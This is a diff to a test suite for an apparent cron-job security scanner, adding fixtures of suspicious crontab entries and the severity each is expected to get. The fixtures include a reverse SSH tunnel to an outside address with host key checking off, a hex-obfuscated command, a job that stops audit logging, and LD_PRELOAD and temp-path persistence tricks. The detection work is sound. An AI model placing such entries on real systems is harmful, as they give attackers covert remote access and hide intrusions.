@@ -15,9 +15,10 @@ describe('jobs of cron', () => {
 			'/etc/cron.d/backup': '5 2 * * * root /usr/local/sbin/backup.sh\n',
 			'/usr/local/sbin/backup.sh': { content: '#!/bin/sh\nset -e\ntar czf /srv/backup/home.tgz /home\ncurl -fsS https://hc-ping.example/x\n', mode: 0o755 },
 			'/var/spool/cron/crontabs/ann': '# m h\n*/10 * * * * $HOME/bin/fetch-mail >/dev/null 2>&1\n@daily /home/ann/gone.sh\n',
+			'/etc/cron.d/tunnel': '@reboot ann ssh -fN -R 2222:localhost:22 hub.example.org\n',
 			'/home/ann/bin/fetch-mail': { content: '#!/bin/sh\nfetchmail\n', mode: 0o755, uid: 1000 },
 		});
-		expect(told(findings)).toEqual(['info /etc/cron.d/backup']);
+		expect(told(findings)).toEqual(['info /etc/cron.d/backup', 'low /etc/cron.d/tunnel']);
 		expect(coverage.counts.files).toBeGreaterThan(4);
 	});
 
@@ -37,6 +38,12 @@ describe('jobs of cron', () => {
 		['a library for everything', { '/etc/cron.d/x': 'LD_PRELOAD=/dev/shm/l.so\n', '/dev/shm/l.so': '' }, 'high /etc/cron.d/x'],
 		['a path anyone may fill', { '/etc/crontab': 'PATH=/tmp:/usr/bin\n' }, 'high /etc/crontab'],
 		['a packaged script that was appended to', { '/etc/cron.daily/dpkg': { content: '#!/bin/sh\n/dev/shm/.x\n', mode: 0o755 }, '/dev/shm/.x': { mode: 0o755 } }, 'high /etc/cron.daily/dpkg'],
+		['a command that is decoded into being', { '/etc/cron.d/x': '*/9 * * * * root $(echo 6375726c20 | xxd -r -p)\n' }, 'high /etc/cron.d/x'],
+		['a tunnel back in from an address whose key nobody looked at', { '/etc/cron.d/x': '*/5 * * * * root ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 x@203.0.113.9\n' }, 'medium /etc/cron.d/x'],
+		['logging stopped by the clock', { '/etc/cron.d/x': '* * * * * root systemctl stop auditd rsyslog\n' }, 'medium /etc/cron.d/x'],
+		['a shell run on a text', { '/etc/cron.d/x': '* * * * * root /bin/sh /usr/share/doc/x/NEWS.txt\n' }, 'medium /etc/cron.d/x'],
+		['jobs of root in a file of a person', { '/etc/cron.d/x': { content: '', uid: 1000 } }, 'high /etc/cron.d/x'],
+		['jobs of root in a file anyone may write', { '/etc/crontab': { content: '', mode: 0o666 } }, 'high /etc/crontab'],
 		['a script anyone may change', { '/etc/cron.hourly/x': { content: '#!/bin/sh\n', mode: 0o777 } }, 'high /etc/cron.hourly/x'],
 		['a link to a temporary place', { '/etc/cron.hourly/x': { link: '/tmp/x' }, '/tmp/x': { content: '#!/bin/sh\n', mode: 0o755 } }, 'high /etc/cron.hourly/x'],
 		['a program that is gone from a temporary place', { '/etc/cron.d/x': '@reboot root /tmp/.X11-unix/x\n' }, 'high /etc/cron.d/x'],
